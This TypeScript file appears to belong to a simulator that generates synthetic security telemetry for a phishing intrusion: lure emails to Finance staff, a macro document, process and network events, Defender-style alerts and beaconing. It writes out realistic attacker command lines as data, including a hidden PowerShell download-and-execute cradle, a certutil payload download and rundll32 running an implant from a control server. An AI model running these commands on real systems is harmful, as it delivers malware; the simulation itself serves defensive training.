// How story one begins: the mail, the macro, the implant and its calls home.

import { office } from '../../company/network.js';
import { Machine } from '../../machines/machine.js';
import { profileOf } from '../../machines/paths.js';
import type { Process } from '../../machines/process.js';
import { hour, type Moment, minute, second } from '../../timeline.js';
import type { World } from '../../world.js';
import { mailbox, type SentMessage } from '../../writers/mail-writer.js';
import { encodeCommand, sessionAt } from '../story.js';
import { controlServer, implant, lure, lureHashes, lureUrl, payloadUrl, victimOf } from './cast.js';

export function sendLure(world: World, at: Moment): void {
  const from = {
    address: 'accounts@stoneford-payments.example',
    name: 'Stoneford Payments',
    ip: '192.0.2.25',
    mailFrom: 'bounce@mailer-7.example',
  };
  const finance = world.company.department('Finance');
  const messages = finance.slice(0, 8).map((person, index) =>
    world.mail.deliver(at + index * second, {
      from,
      to: mailbox(person),
      subject: 'RE: Remittance advice 48213 - payment onus',
      direction: 'Inbound',
      authentication: 'fail',
      attachments: [{ name: lure, type: 'docm;macro', hashes: lureHashes, size: 91_648 }],
      urls: [lureUrl],
    }),
  );
  const message = (index: number): SentMessage => {
    const found = messages[index];
    if (!found) throw new Error(`story: expected message ${index}, found ${messages.length}`);
    return found;
  };
  const { person } = victimOf(world);
  const curious = world.company.desk('Finance', 2);
  const blocked = finance.indexOf(curious.person);
  world.mail.click(at + 21 * minute, {
    url: lureUrl,
    person,
    ip: office.ip,
    message: message(finance.indexOf(person)),
  });
  world.mail.click(at + 31 * minute, {
    url: lureUrl,
    person: curious.person,
    ip: office.ip,
    message: message(blocked),
    action: 'ClickBlocked',
    threatTypes: 'Malware',
  });
  for (const [index, sent] of messages.entries())
    if (index > 2) world.mail.remove(at + 4 * hour + index * second, sent, 'Malware ZAP', 'Malware');
  world.alerts.raise(at + 4 * hour, {
    title: 'Email messages containing malicious file removed after delivery',
    category: 'InitialAccess',
    severity: 'Informational',
    service: 'Microsoft Defender for Office 365',
    techniques: ['Phishing (T1566)'],
    account: person.account,
    message: message(finance.indexOf(person)),
    url: lureUrl,
  });
}

/** Outlook, Word, cmd, PowerShell, certutil, rundll32: returns the last one, which stays. */
export function openLure(world: World, at: Moment): Process {
  const { device } = victimOf(world);
  const { machine, session } = sessionAt(world, device);
  const folder = `${profileOf(session.account)}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\K7Q2M4ZT`;
  const outlook = session.open.get('OUTLOOK.EXE') ?? session.shell;
  machine.event(at - 3 * second, 'BrowserLaunchedToOpenUrl', outlook, { RemoteUrl: lureUrl });
  machine.file(at, outlook, { folder, name: lure, content: lureHashes, size: 91_648 });
  const word = machine.start(at + 4 * second, {
    parent: outlook,
    program: 'WINWORD.EXE',
    commandLine: `"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE" /n "${folder}\\${lure}" /o ""`,
  });
  machine.load(at + 6 * second, word, 'VBE7.DLL');
  machine.load(at + 6 * second, word, 'mshtml.dll');
  const download = `$c=New-Object Net.WebClient;$c.DownloadString('http://${controlServer.url}/a')|IEX`;
  const powershellLine = `powershell.exe -nop -w hidden -enc ${encodeCommand(download)}`;
  const shell = machine.start(at + 41 * second, {
    parent: word,
    program: 'cmd.exe',
    commandLine: `cmd.exe /c ${powershellLine}`,
  });
  machine.event(at + 41 * second, 'AsrOfficeChildProcessAudited', word, Machine.targetColumns(shell), {
    IsAudit: true,
    RuleId: 'd4f940ab-401b-4efc-aadc-ad5f3c50688a',
    RuleLastModificationTime: '',
  });
  const powershell = machine.start(at + 42 * second, {
    parent: shell,
    program: 'powershell.exe',
    commandLine: powershellLine,
  });
  machine.load(at + 43 * second, powershell, 'System.Management.Automation.ni.dll');
  machine.load(at + 43 * second, powershell, 'amsi.dll');
  machine.event(at + 44 * second, 'AmsiScriptContent', powershell, {}, { ScriptContent: download });
  machine.event(at + 44 * second, 'PowerShellCommand', powershell, {}, { Command: 'New-Object' });
  machine.event(
    at + 44 * second,
    'DnsQueryResponse',
    machine.service('svchost.exe', 'svchost.exe -k NetworkService -p -s Dnscache'),
    {},
    { DnsQueryString: controlServer.url, DnsQueryResult: `["${controlServer.ip}"]` },
  );
  machine.connect(at + 45 * second, powershell, {
    to: { ...controlServer, port: 80, url: `http://${controlServer.url}/a` },
  });
  machine.connect(at + 45 * second, machine.service('ntoskrnl.exe'), {
    to: { ...controlServer, port: 80 },
    action: 'NetworkSignatureInspected',
    additional: {
      SignatureName: 'HTTP_Client',
      SignatureMatchedContent: 'GET /assets/fonts.exe HTTP/1.1',
      SamplePacketContent: [`GET /a HTTP/1.1\r\nHost: ${controlServer.url}`],
    },
  });
  const fetcher = machine.start(at + 52 * second, {
    parent: powershell,
    program: 'certutil.exe',
    commandLine: `certutil.exe -urlcache -split -f ${payloadUrl} ${implant.folder}\\${implant.fileName}`,
  });
  machine.connect(at + 53 * second, fetcher, { to: { ...controlServer, port: 80, url: payloadUrl } });
  machine.file(at + 55 * second, fetcher, {
    folder: implant.folder,
    name: implant.fileName,
    content: implant,
    size: implant.size,
    originUrl: payloadUrl,
    originIp: controlServer.ip,
  });
  const beacon = machine.start(at + minute, {
    parent: powershell,
    program: 'rundll32.exe',
    commandLine: `rundll32.exe ${implant.folder}\\${implant.fileName},GlobalOut`,
  });
  machine.load(at + minute + second, beacon, implant);
  world.alerts.raise(at + 3 * minute, {
    title: 'Suspicious PowerShell command line',
    category: 'Execution',
    severity: 'Medium',
    techniques: ['PowerShell (T1059.001)', 'Obfuscated Files or Information (T1027)'],
    device,
    account: session.account,
    process: powershell,
  });
  return beacon;
}

/** A call every few minutes until the night is over. */
export function callHome(world: World, at: Moment, beacon: Process): void {
  const { device } = victimOf(world);
  const machine = world.machine(device);
  for (let call = at; call < at + 17 * hour; call += 5 * minute + machine.random.below(90) * second)
    machine.connect(call, beacon, { to: controlServer });
}
